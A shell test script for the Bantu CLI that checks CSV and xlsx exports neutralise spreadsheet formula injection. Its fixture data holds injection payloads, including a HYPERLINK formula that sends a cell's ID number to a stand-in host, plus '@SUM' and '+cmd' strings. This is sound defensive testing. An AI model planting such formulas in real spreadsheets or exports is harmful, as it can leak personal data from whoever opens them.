#!/bin/sh
# tests/cli/formula_injection.sh - spreadsheet formula injection (OWASP "CSV
# injection"): text that a spreadsheet would run as a formula (= @ + - TAB CR at
# its start) is exported after an apostrophe, plain numbers and +62 phones as
# they are; Bantu's own import takes exactly that apostrophe off, so export ->
# import keeps every value; an xlsx report writes such text as a string cell,
# never a formula.
. "$(dirname "$0")/../lib.sh"
cd "$T_TMP" || exit 1
export BANTU_TODAY=2020-07-01
db=$T_TMP/f.db
B() { "$BANTU" --db "$db" "$@"; }

expect_ok "init" B init --office 18
cat >u.csv <<'EOF2'
nama_usaha,nama_pemilik,nik,kabupaten_kota,telepon,alamat
@SUM(1+1),Sari,1871016505900001,Kota Bandar Lampung,081234567890,-5
"=HYPERLINK(""http://x/?""&C2,""klik"")",Budi,1871016505900002,Kota Bandar Lampung,,+1+cmd
-2+3,Ani,1871016505900003,Kota Metro,,''=already
Toko Biasa,Dewi,1871016505900004,Kota Metro,,-1.234
EOF2
expect_ok "import of names that look like formulas" B import-csv umkm u.csv
# A tab and a CR cannot be typed into a name (controls become spaces); one that
# arrived another way (an old database, a bundle) is exported guarded all the same.
sql "$db" "UPDATE umkm SET nama_usaha = char(9) || '=1+1' WHERE nama_pemilik = 'Dewi';
	   UPDATE umkm SET catatan = char(13) || '=2+2' WHERE nama_pemilik = 'Sari'" 2>/dev/null

B export-csv umkm >out.csv 2>/dev/null
out=$(cat out.csv)
expect_match "@ is guarded" "$out" "^'@SUM\(1\+1\),"
expect_match "= is guarded (quoted field)" "$out" "^\"'=HYPERLINK\(\"\"http://x/\?\"\"&C2,\"\"klik\"\"\)\","
expect_match "- followed by a formula is guarded" "$out" "^'-2\+3,"
expect_match "+ followed by a formula is guarded" "$out" ",'\+1\+cmd(,|$)"
expect_match "a TAB first is guarded" "$out" "^\"'	=1\+1\","
expect_match "a CR first is guarded" "$out" ",\"'$(printf '\r')=2\+2\","
expect_match "an apostrophe of the user's own before = gets one more" "$out" ",''=already(,|$)"
expect_match "the +62 phone is unchanged" "$out" ",\+6281234567890,"
expect_match "a negative plain number is unchanged" "$out" ",-5(,|$)"
expect_match "a negative number with separators is unchanged" "$out" ",-1\.234(,|$)"

# ---- the round trip: export -> import into another database keeps the values ----
db2=$T_TMP/g.db
expect_ok "init a second database" "$BANTU" --db "$db2" init --office 18
expect_ok "import the export" "$BANTU" --db "$db2" import-csv umkm out.csv
q="SELECT nama_pemilik || '|' || hex(nama_usaha) || '|' || hex(coalesce(alamat,'')) FROM umkm ORDER BY nama_pemilik"
want=$(sql "$db" "$q")
# The TAB and CR are controls: the import (rightly) makes them spaces; compare the rest.
expect_eq "export -> import keeps every value exactly (but controls)" \
	"$(sql "$db2" "$q" | grep -v -e Dewi -e Sari)" "$(printf '%s\n' "$want" | grep -v -e Dewi -e Sari)"
expect_eq "a user's own apostrophe survives the round trip" \
	"$(sql "$db2" "SELECT alamat FROM umkm WHERE nama_pemilik = 'Ani'")" "'=already"
expect_eq "... and the guarded formula in the name" \
	"$(sql "$db2" "SELECT nama_usaha FROM umkm WHERE nama_pemilik = 'Ani'")" "-2+3"

# ---- xlsx: a producer named like a formula is a string cell ----
reg_u=$(sql "$db" "SELECT reg_no FROM umkm WHERE nama_pemilik = 'Budi'")
cat >o.csv <<EOF2
produsen,barang,jumlah,harga_satuan,tanggal_pesan,tanggal_jatuh_tempo
$reg_u,masker kain,100,5000,01/06/2020,30/06/2020
EOF2
expect_ok "an order from it, now late" B import-csv apd-pesanan o.csv
expect_ok "the APD report as xlsx" B report apd --format xlsx -o a.xlsx
sheets=$(for f in $(unzip -l a.xlsx | grep -o 'xl/worksheets/sheet[0-9]*\.xml'); do unzip -p a.xlsx "$f"; done)
strings=$(unzip -p a.xlsx xl/sharedStrings.xml)
expect_match "xlsx: the name is in the workbook as text" "$strings" '<t>=HYPERLINK\("http://x/\?"&amp;C2,"klik"\)</t>'
expect_no_match "xlsx: no cell holds a formula" "$sheets" "<f>|<f "
expect_match "xlsx: text cells are strings" "$sheets" 't="s"'

echo "1..$T_N"
